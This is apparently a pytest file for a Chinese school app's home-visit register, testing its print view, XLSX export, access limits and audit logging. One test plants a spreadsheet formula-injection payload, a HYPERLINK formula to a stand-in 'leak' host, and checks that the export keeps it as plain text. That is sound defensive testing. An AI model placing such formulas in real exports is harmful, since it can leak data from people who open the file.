"""The class's visit register (家访记录表): a print view for the paper archive and the same as XLSX."""
import json
from io import BytesIO

from openpyxl import load_workbook

from webapp.models import AuditEvent

from .visit_steps import log_visit

EVIL = '=HYPERLINK("//x.cn/?leak","点击")'


def _visits(county, login_as):
    head = login_as("head1")
    log_visit(head, county.kids.zhang_san, findings=EVIL, guidance="建议多陪伴", received_by=["father", "mother"])
    return head


def test_the_print_view_lists_every_visit_and_who_is_still_due(county, login_as):
    head = _visits(county, login_as)
    response = head.get(f"/visits/class/{county.classes.c41.id}/register")
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "家访记录表" in page and "渠县第一小学" in page and "2026–2027" in page
    assert "张三" in page and "父亲、母亲" in page and "建议多陪伴" in page and "head1" in page
    assert "未家访" in page and "李四" in page.split("未家访")[-1]
    assert "班主任签名" in page
    event = AuditEvent.get(AuditEvent.action == "print_visit_register")
    assert event.object_id == county.classes.c41.id and json.loads(event.detail) == {"rows": 1}


def test_the_xlsx_holds_the_same_register_with_formulas_neutralised_and_is_audited(county, login_as):
    head = _visits(county, login_as)
    response = head.get(f"/visits/class/{county.classes.c41.id}/register.xlsx")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Cache-Control"] == "no-store"
    assert "张三" not in response.headers["Content-Disposition"]
    workbook = load_workbook(BytesIO(response.data))
    visits, waiting = workbook["家访记录表"], workbook["未家访"]
    rows = list(visits.iter_rows(values_only=True))
    assert rows[0][:4] == ("序号", "学生", "家访日期", "方式")
    assert rows[1][1] == "张三" and rows[1][3] == "实地走访" and rows[1][4] == "父亲、母亲"
    assert rows[1][7] == "'" + EVIL  # typed text stays text, never a formula
    assert visits.cell(row=2, column=8).data_type != "f"
    assert [row[0] for row in waiting.iter_rows(min_row=2, values_only=True)] == ["李四"]
    event = AuditEvent.get(AuditEvent.action == "export_visit_register")
    assert json.loads(event.detail) == {"rows": 1} and "张三" not in event.detail


def test_the_principal_prints_any_class_of_her_school_but_no_other(county, login_as):
    _visits(county, login_as)
    principal = login_as("principal1")
    assert principal.get(f"/visits/class/{county.classes.c41.id}/register").status_code == 200
    assert principal.get(f"/visits/class/{county.classes.c42.id}/register.xlsx").status_code == 200
    assert principal.get(f"/visits/class/{county.classes.s2c41.id}/register").status_code == 404
    assert login_as("head2").get(f"/visits/class/{county.classes.c41.id}/register.xlsx").status_code == 404


def test_last_years_register_prints_after_the_year_has_ended(county, login_as, clock):
    head = _visits(county, login_as)
    clock.advance(days=300)  # September 2027: a new school year
    head = login_as("head1")  # unused since: her sign-in ran out
    page = head.get(f"/visits/class/{county.classes.c41.id}/register").get_data(as_text=True)
    assert "2026–2027" in page and "张三" in page and "建议多陪伴" in page
